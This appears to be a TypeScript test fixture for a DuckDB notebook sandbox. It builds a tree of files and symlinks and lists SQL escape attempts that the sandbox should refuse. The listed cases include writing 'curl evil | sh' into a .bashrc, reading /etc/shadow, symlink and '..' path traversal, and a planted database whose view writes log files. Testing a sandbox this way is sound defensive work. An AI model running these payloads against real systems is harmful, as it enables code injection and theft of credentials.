// The worst notebook someone could send, statement by statement, for the notebook sandbox's tests (through
// the notebook service and through `hexwatch sql`): a folder tree with a home root (a .bashrc in it), a
// data folder inside it, symlinks from there pointing out, and a secret outside every root.
import { mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';

export interface SandboxTree {
  /** The home root (notebooks.roots or the user's home). */
  home: string;
  /** A folder of data inside it. */
  data: string;
  /** Outside every root. */
  outside: string;
}

export const BASHRC = '# the analyst’s shell\nexport PATH=$HOME/bin:$PATH\n';

/** Lays the tree out under `dir`, with a DuckDB file whose view would write log files when read. */
export async function sandboxTree(dir: string): Promise<SandboxTree> {
  const home = join(dir, 'home');
  const data = join(home, 'data');
  const outside = join(dir, 'outside');
  mkdirSync(data, { recursive: true });
  mkdirSync(outside, { recursive: true });
  mkdirSync(join(data, 'dump'));
  writeFileSync(join(home, '.bashrc'), BASHRC);
  writeFileSync(join(data, 'trips.csv'), 'id,km\n1,2.5\n2,4\n');
  writeFileSync(join(outside, 'secret.txt'), 'the secret');
  symlinkSync(outside, join(data, 'link'));
  symlinkSync(join(outside, 'secret.txt'), join(data, 'secret-link.txt'));
  // IMPORT DATABASE would run this folder's SQL.
  writeFileSync(join(data, 'dump', 'schema.sql'), '');
  writeFileSync(join(data, 'dump', 'load.sql'), `COPY (SELECT 42) TO '${join(data, 'imported.csv')}';\n`);
  const instance = await DuckDBInstance.create(join(data, 'fleet.duckdb'));
  const c = await instance.connect();
  await c.run('CREATE TABLE trips AS SELECT 1 AS id, 2.5 AS km');
  // Checkpointed now, so no WAL appears or goes later.
  await c.run('CHECKPOINT');
  // Connection first: an instance closed under an open connection keeps its file's lock until the collector comes.
  c.closeSync();
  instance.closeSync();
  const evil = await DuckDBInstance.create(join(data, 'evil.duckdb'));
  const e = await evil.connect();
  await e.run(`CREATE VIEW v AS SELECT * FROM enable_logging(storage = 'file', storage_path = '${join(data, 'logs')}')`);
  await e.run('CHECKPOINT');
  e.closeSync();
  evil.closeSync();
  return { home, data, outside };
}

/** Every file under `dir` (symlinks not followed), to prove nothing was written. */
export function filesUnder(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => !e.isDirectory())
    .map((e) => join(e.parentPath, e.name))
    .sort();
}

/** [what it tries, the SQL, what the refusal says]. */
export function refusedCases(t: SandboxTree): [string, string, RegExp][] {
  const copyOut = /refused by the notebook sandbox: COPY writes files/;
  const outside = /Permission Error: Cannot access file .* file system operations are disabled by configuration/;
  const locked = /refused by the notebook sandbox: DuckDB's settings are locked/;
  return [
    ['COPY … TO a file inside a root', `COPY (SELECT 1 AS x) TO '${join(t.data, 'out.csv')}'`, copyOut],
    ['COPY … TO the .bashrc in the home root', `COPY (SELECT 'curl evil | sh' AS x) TO '${join(t.home, '.bashrc')}' (HEADER false)`, copyOut],
    ['a COPY hidden after comments', `/* a harmless cell */ -- ; SELECT 1\nCOPY (SELECT 1) TO '${join(t.data, 'c.csv')}'`, copyOut],
    ['a COPY after a query, a semicolon inside its string', `SELECT 'a;b' AS s; COPY (SELECT 1) TO '${join(t.data, 'second.csv')}'`, copyOut],
    ['a CTE around a COPY', `WITH x AS (SELECT 1 AS a) COPY (SELECT * FROM x) TO '${join(t.data, 'cte.csv')}'`, /syntax error/],
    ['EXPLAIN ANALYZE of a COPY (it runs what it explains)', `EXPLAIN ANALYZE COPY (SELECT 1) TO '${join(t.data, 'ea.csv')}'`, copyOut],
    ['PREPARE of a COPY', `PREPARE p AS COPY (SELECT 1) TO '${join(t.data, 'p.csv')}'`, /PREPARE and EXECUTE are not available/],
    ['EXPORT DATABASE', `EXPORT DATABASE '${join(t.data, 'exported')}'`, /EXPORT DATABASE writes files/],
    ['IMPORT DATABASE (runs the folder’s SQL)', `IMPORT DATABASE '${join(t.data, 'dump')}'`, /IMPORT DATABASE runs the SQL files/],
    ['PRAGMA import_database', `PRAGMA import_database('${join(t.data, 'dump')}')`, /import_database\(\) is not available/],
    ['ATTACH read-write (creates the file)', `ATTACH '${join(t.data, 'new.duckdb')}' AS w`, /ATTACH may open a database read-only only/],
    ['ATTACH with READ_ONLY false', `ATTACH '${join(t.data, 'fleet.duckdb')}' AS f (READ_ONLY false)`, /read-only only/],
    [
      'ATTACH of a file whose view writes log files',
      `ATTACH '${join(t.data, 'evil.duckdb')}' AS evil (READ_ONLY)`,
      /evil was detached again: .* enable_logging\(\)/,
    ],
    ['CALL enable_logging to a file', `CALL enable_logging(storage = 'file', storage_path = '${join(t.data, 'logs')}')`, /enable_logging\(\) is not available/],
    ['query() running a COPY from a string', `SELECT * FROM query('COPY (SELECT 1) TO ''${join(t.data, 'q.csv')}''')`, /query\(\) is not available/],
    ['INSTALL of a file', `INSTALL '${join(t.data, 'evil.duckdb_extension')}'`, /only DuckDB's own spatial, httpfs, ducklake may be loaded/],
    ['LOAD of an extension not approved', 'LOAD inet', /"INET" is not one of them|"inet" is not one of them/],
    ['FORCE INSTALL from another repository', "FORCE INSTALL spatial FROM 'http://example.com'", /by name/],
    ['CREATE SECRET', "CREATE TEMPORARY SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", /CREATE SECRET is not available/],
    ['SET enable_external_access', 'SET enable_external_access = true', locked],
    ['RESET allowed_directories', 'RESET allowed_directories', locked],
    ['PRAGMA profiling_output', `PRAGMA profiling_output = '${join(t.data, 'profile.json')}'`, locked],
    ['read_text of a file outside the roots', `SELECT * FROM read_text('${join(t.outside, 'secret.txt')}')`, outside],
    ['read_text of /etc/shadow, by string concatenation', "SELECT * FROM read_text('/etc/' || 'shadow')", outside],
    ['read_text through a symlinked folder inside a root', `SELECT * FROM read_text('${join(t.data, 'link', 'secret.txt')}')`, outside],
    ['read_text of a symlink inside a root pointing out', `SELECT * FROM read_text('${join(t.data, 'secret-link.txt')}')`, outside],
    ['read_text through ..', `SELECT * FROM read_text('${join(t.data, '..', '..', 'outside', 'secret.txt')}')`, outside],
  ];
}
